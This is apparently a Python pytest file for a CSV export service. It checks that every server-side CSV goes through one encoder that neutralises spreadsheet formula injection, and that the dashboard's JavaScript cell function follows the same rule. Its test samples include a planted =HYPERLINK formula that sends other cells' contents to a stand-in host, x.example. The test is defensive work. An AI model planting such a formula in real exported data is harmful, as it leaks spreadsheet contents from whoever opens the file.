"""The one CSV encoder, and the dashboard's CSV cells following the same rule."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from services.platform import csv_export

DASHBOARD_JS = Path(__file__).parents[2] / "manager_api/dashboard/static/dashboard.js"
ROOT = Path(__file__).parents[2]
PLANTED = '=HYPERLINK("http://x.example/?"&B3&C3,"Open full report")'
SAMPLES = [PLANTED, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Jing'an", "a,b", 'say "hi"', ""]


def test_formula_text_is_neutralised_and_numbers_stay_numbers() -> None:
    text = csv_export.encode(["name", "n"], [[s, -5] for s in SAMPLES] + [[None, 1.5]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "n"]
    names = [r[0] for r in rows[1:]]
    assert names[:6] == [f"'{s}" for s in SAMPLES[:6]]
    assert names[6:] == ["Jing'an", "a,b", 'say "hi"', "", ""]
    assert {r[1] for r in rows[1:-1]} == {"-5"} and rows[-1][1] == "1.5"
    assert csv_export.cell(True) == "True"


def test_every_csv_the_server_writes_goes_through_the_one_encoder() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("manager_api", "mini_program_api", "tablet_api", "orders", "inventory",
                       "stores", "services", "server")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]  # fmt: skip
    assert writers == ["services/platform/csv_export.py"]


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_dashboard_csv_cell_follows_the_server_rule() -> None:
    source = DASHBOARD_JS.read_text()
    function = re.search(r"^function csvCell\(v\) \{.*?\}$", source, re.M | re.S)
    assert function is not None
    values: list[object] = [*SAMPLES, -5, 2.5, None]
    script = f"{function.group(0)}\nconsole.log(JSON.stringify({json.dumps(values)}.map(csvCell)));"
    run = subprocess.run(
        ["node", "-e", script], capture_output=True, check=True, text=True, timeout=30
    )
    expected = [_first(csv_export.encode([v], [])) for v in values]
    assert [_first(cell) for cell in json.loads(run.stdout)] == expected


def _first(text: str) -> str:
    return next(csv.reader(io.StringIO(text, newline="")), [""])[0]
